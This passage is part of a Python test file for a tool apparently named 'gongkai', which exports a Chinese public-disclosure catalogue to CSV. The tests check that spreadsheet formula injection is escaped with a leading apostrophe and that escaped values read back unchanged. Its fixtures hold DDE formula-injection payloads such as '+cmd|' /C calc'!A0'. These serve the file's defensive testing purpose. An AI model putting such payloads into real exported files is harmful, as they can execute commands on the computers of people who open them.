                        "  - \"+cmd|' /C calc'!A0\"\n  - \"@SUM(1+1)*cmd|' /C calc'!A0\"\n  - \"=1+1\"\n")
    text = text.replace("  - 《社会救助暂行办法》\n", "  - \"-2+3+cmd|' /C calc'!A0\"\n  - \"'=已有引号\"\n", 1)
    item.write_text(text, encoding="utf-8")
    build = run_build(root)
    assert build.returncode == 0, build.stdout + build.stderr
    raw = (root / "output/downloads/catalogue.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.lstrip()[:1] in ("=", "+", "-", "@") or c[:1] in ("\t", "\r")]
    hostile = next(row for row in rows if "HYPERLINK" in row[3])
    assert hostile[3] == "'" + FORMULA_VALUES["事项名称"]
    assert hostile[4] == "'" + "\n".join(FORMULA_VALUES["公开内容"])
    assert hostile[5] == "'" + "\n".join(FORMULA_VALUES["公开依据"])
    again = make_project(tmp_path / "again")
    done = import_table(root / "output/downloads/catalogue.csv", again, date="2024-03-05")
    assert done.ok, done.text()
    meta = validated(again)[FORMULA_VALUES["事项名称"]]
    assert (meta["公开内容"], meta["公开依据"]) == (FORMULA_VALUES["公开内容"], FORMULA_VALUES["公开依据"])


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), (" =1+1", "' =1+1"), ("+86 电话", "'+86 电话"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t制表符", "'\t制表符"), ("\r回车", "'\r回车"), ("'=已有引号", "''=已有引号"), ("''=x", "'''=x"),
    ("普通文字", "普通文字"), ("'引号开头", "'引号开头"), ("a=b", "a=b"), ("", ""), ("＝全角", "＝全角"),
])
def test_spreadsheet_safe_cells_and_back(value, safe):
    from gongkai.table import as_written, spreadsheet_safe

    assert spreadsheet_safe(value) == safe and as_written(safe) == value
